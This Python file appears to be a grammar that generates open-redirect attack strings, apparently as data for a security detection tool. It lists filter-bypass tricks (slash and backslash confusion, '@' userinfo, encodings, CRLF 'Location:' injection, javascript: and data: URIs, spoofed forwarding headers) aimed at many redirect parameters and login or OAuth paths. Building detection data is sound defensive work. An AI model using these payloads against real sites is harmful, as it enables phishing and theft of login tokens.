"""Open redirect: foreign hosts written in every way that browsers follow and naive checks let pass."""

from threatclip.pairs.grammar.start import Start

STARTS = (
    Start("target", weight=10, places=("target",)),
    Start("attack", weight=10, places=("query",)),
    Start("attack", weight=2, places=("form",)),
    Start("tail_path", weight=5, places=("tail",)),
    Start("header_value", weight=1, places=("message",)),
    Start("login_form", weight=2, places=("formbody",)),
)

TEXT = r"""
attack := *6 «scheme»://«attacker» ¦ *4 «scheme»://«attacker»/«path?» ¦ *4 //«attacker» ¦ //«attacker»/«path?»
  ¦ *4 «trick» ¦ «attacker» ¦ «scheme|case»://«attacker» ¦ *2 «encoded» ¦ www.«zone» ¦ «scheme»://«attacker»:«port»/
  ¦ «scheme»://www.«zone» ¦ «jsuri» ¦ ftp://«attacker»/ ¦ «scheme»://«attacker|b64» ¦ «plain|b64»
plain := «scheme»://«attacker»/ ¦ //«attacker»
path := «rand» ¦ «word» ¦ «word»/«word».html ¦ ?«ab»=«rand» ¦ %2f.. ¦ .. ¦ #«word» ¦ login ¦ %2e%2e ¦ «word»/..
  ¦ «word».php
trick := *3 ///«attacker» ¦ *2 ////«attacker» ¦ *2 /\«attacker» ¦ *2 \\«attacker» ¦ \/\/«attacker» ¦ /\/«attacker»
  ¦ \/«attacker» ¦ «scheme»:«attacker» ¦ «scheme»:/«attacker» ¦ «scheme»:\\«attacker» ¦ «scheme»:/\«attacker»
  ¦ «scheme»:\/\/«attacker» ¦ *2 «scheme»://«site»@«attacker» ¦ //«site»@«attacker» ¦ @«attacker» ¦ .«zone»
  ¦ «scheme»://«site».«zone» ¦ «scheme»://«attacker»?«site» ¦ «scheme»://«attacker»#«site»
  ¦ «scheme»://«attacker»\@«site» ¦ «scheme»://«attacker»/«site» ¦ «scheme»://«attacker»;@«site» ¦ //«attacker»/%2f..
  ¦ //«attacker»/%2e%2e ¦ ///«attacker»/%2f%2e%2e ¦ //«attacker»/..;/css ¦ //«attacker»//«word» ¦ /«word»//«attacker»
  ¦ /.«zone» ¦ /%09/«attacker» ¦ /%5c«attacker» ¦ /%2f«attacker» ¦ %2f%2f«attacker» ¦ //%0d%0a«attacker»
  ¦ /%0d/«attacker» ¦ /%0a/«attacker» ¦ «tab»//«attacker» ¦ %09//«attacker» ¦ %01«scheme»://«attacker»
  ¦ %20«scheme»://«attacker» ¦ //«attacker»%00.«site» ¦ //«attacker»%E3%80%82test ¦ //〱«attacker» ¦ 〱«attacker»
  ¦ ///\;@«attacker» ¦ ;@«attacker» ¦ «scheme»://«attacker»%23.«site» ¦ «scheme»://«attacker»%3f.«site»
  ¦ «scheme»://[::ffff:c000:0201]/ ¦ «scheme»://3221225985 ¦ //0xcb007105 ¦ /redirect/«scheme»://«attacker»
  ¦ <>//«attacker» ¦ «scheme»://«site»%40«attacker» ¦ «scheme»://;@«attacker» ¦ «scheme»://.«zone»
  ¦ «scheme»://«word»:«rand»@«attacker» ¦ ////\;@«attacker» ¦ «scheme»://«attacker»/%2f%2e%2e
  ¦ «scheme»:«attacker»/%2f.. ¦ x://«attacker» ¦ url=«scheme»://«attacker» ¦ *//«attacker» ¦ //«attacker»%5c@«site»
  ¦ «scheme»://«attacker»%0a%23«site» ¦ /«word»/../../«attacker» ¦ ../../../«attacker» ¦ ¿//«attacker»
encoded := *2 «plain|url» ¦ «plain|url2» ¦ «plain|urlall» ¦ %68%74%74%70%73%3a%2f%2f«attacker»
  ¦ https%3A%2F%2F«attacker»%2F«rand» ¦ http%253a%252f%252f«attacker» ¦ %2f%2f«attacker|urlall» ¦ «plain|urlsome»
  ¦ %5C%5C«attacker»%2F%252e%252e%252f ¦ %2F%5C«attacker» ¦ https:%0a%0d//«attacker» ¦ \u002f\u002f«attacker»
  ¦ %EF%BC%8F%EF%BC%8F«attacker» ¦ «plain|ent»
jsuri := javascript://«attacker»/%0alocation='//«attacker»' ¦ data:text/html;base64,«meta|b64»
  ¦ data:text/html,<meta http-equiv=refresh content=0;url=//«attacker»> ¦ %0d%0aLocation:%20«scheme»://«attacker»
  ¦ /%0d%0aLocation:%20//«attacker» ¦ javascript:location='«scheme»://«attacker»' ¦ %0aLocation:«scheme»://«attacker»
meta := <meta http-equiv="refresh" content="0;url=«scheme»://«attacker»">
  ¦ <script>location.href="//«attacker»"</script>
param := *3 url ¦ *3 redirect ¦ *2 next ¦ *2 return ¦ *2 redirect_to ¦ *2 redirect_uri ¦ *2 redirect_url ¦ *2 returnUrl
  ¦ *2 return_to ¦ ReturnUrl ¦ returnTo ¦ return_url ¦ redirectUrl ¦ redirectUri ¦ redirectTo ¦ dest ¦ destination
  ¦ continue ¦ goto ¦ go ¦ target ¦ to ¦ out ¦ link ¦ u ¦ r ¦ forward ¦ location ¦ success ¦ back ¦ backurl ¦ callback
  ¦ callbackUrl ¦ checkout_url ¦ rurl ¦ referer ¦ ref ¦ page ¦ view ¦ uri ¦ path ¦ service ¦ RelayState ¦ TARGET
  ¦ wreply ¦ post_logout_redirect_uri ¦ logout ¦ login_url ¦ cancelUrl ¦ successUrl ¦ from ¦ fallback ¦ origin ¦ host
  ¦ site ¦ jump ¦ jump_url ¦ click ¦ clickurl ¦ q ¦ image_url ¦ data ¦ nexturl ¦ realm ¦ end_display ¦ sp_url ¦ ret ¦ rd
  ¦ redir ¦ RedirectURL ¦ redirecturl ¦ _next ¦ CMD ¦ extern ¦ adurl ¦ lang_url ¦ state ¦ hsp_redir
  ¦ redirect-after-login ¦ «name»
page := *2 /«word» ¦ /«word».php ¦ /«word»/«word» ¦ /login ¦ /logout ¦ /signin ¦ /redirect ¦ /redirect.php ¦ /out
  ¦ /out.php ¦ /go ¦ /click ¦ /link ¦ /track ¦ /sso/«word» ¦ /oauth/authorize ¦ /oauth2/login ¦ /auth/login
  ¦ /user/login ¦ /account/login ¦ /accounts/login ¦ /wp-login.php ¦ /cas/login ¦ /saml/logout ¦ /index.php ¦ /
  ¦ /«word»/redirect.jsp ¦ /«word»/«word».do ¦ /«word».aspx ¦ /«word»/logout.action ¦ /servlet/«word»
  ¦ /api/v«small»/redirect ¦ /lang/«word» ¦ /set-language ¦ /newsletter/click ¦ /ad/click ¦ /adclick.php ¦ /jump.php
  ¦ /wp-content/plugins/«word»/«word».php ¦ /r ¦ /web/«word»/redir ¦ /secure/«word».jspa ¦ /Account/Login
  ¦ /«word»/pub/ad.asp ¦ /search ¦ /cgi-bin/«word».cgi ¦ /nagios/index.php ¦ /admin/auth/login
target := *8 «page»?«param»=«attack» ¦ *3 «page»?«param»=«attack»&«name»=«rand»
  ¦ *3 «page»?«name»=«int»&«param»=«attack» ¦ «page»?«name»=«word»&«param»=«attack»&«name»=«small» ¦ «page»?«attack»
  ¦ «page»?«param»=«encoded» ¦ «page»?«name»=«word»&«name»=«rand»&«param»=«attack» ¦ «page»;«param»=«attack»
  ¦ «page»#«param»=«attack» ¦ «page»?client_id=«rand»&response_type=code&redirect_uri=«attack»
  ¦ «page»?action=logout&«param»=«attack» ¦ «page»?«param»[]=«attack» ¦ «page»?service=«attack»&gateway=true
tail_path := *3 //«attacker» ¦ *2 //«attacker»/%2f.. ¦ //«attacker»/%2e%2e ¦ ///«attacker» ¦ ////«attacker»/%2f%2e%2e
  ¦ //«attacker»//«word» ¦ //«attacker»\@«site»/%2e%2e ¦ /%5c%5c«attacker»/%252e%252e%252f ¦ /%2f%2f«attacker»
  ¦ /%2f%5c%2f%67«attacker»/ ¦ /%09/«attacker» ¦ /\«attacker» ¦ /\/\/«attacker»/ ¦ /%5c«attacker» ¦ /%0a/«attacker»/
  ¦ //%5c«attacker» ¦ /.«zone» ¦ /;@«attacker» ¦ /«scheme»://«attacker» ¦ /«scheme»:/«attacker»
  ¦ /«scheme»%3A%2F%2F«attacker» ¦ /redirect/«attacker» ¦ /out/«scheme»://«attacker» ¦ /«word»//«attacker»/%2f%2e%2e
  ¦ /«word»/«scheme»://«attacker» ¦ //www.«zone»/../ ¦ //«attacker»/«word»/.. ¦ //%0d%0aLocation:%20//«attacker»
  ¦ /〱«attacker» ¦ //«attacker»?/ ¦ /«word»?//«attacker» ¦ /cdn-cgi/«word»/«attacker» ¦ //«attacker»;/«word»
  ¦ /%01//«attacker» ¦ /$%7B//«attacker»%7D ¦ /logout?//«attacker» ¦ /go/«scheme|case»://«attacker»
header_value := GET «page»«nl»X-Forwarded-Host: «attacker»«nl»«nl»
  ¦ GET «page»?«name»=«word»«nl»Referer: «scheme»://«attacker»/«nl»«nl»
  ¦ POST «page»«nl»X-Forwarded-Server: «attacker»«nl»X-Forwarded-Proto: https«nl»Content-Type: application/x-www-form-urlencoded«nl»«nl»«param»=«attack»
  ¦ GET «page»«nl»X-Host: «attacker»«nl»«nl» ¦ GET «page»«nl»Cookie: «param»=«attack»«nl»«nl»
login_form := username=«word»&password=«rand»&«param»=«attack» ¦ «param»=«attack|plus»&«name»=«rand»
  ¦ log=«word»&pwd=«rand»&«param»=«attack|plus»&testcookie=1 ¦ «name»=«int»&«param»=«attack|url»
  ¦ _method=POST&«param»=«attack|plus»&«=submit~action~login»=«word»
"""  # noqa: E501
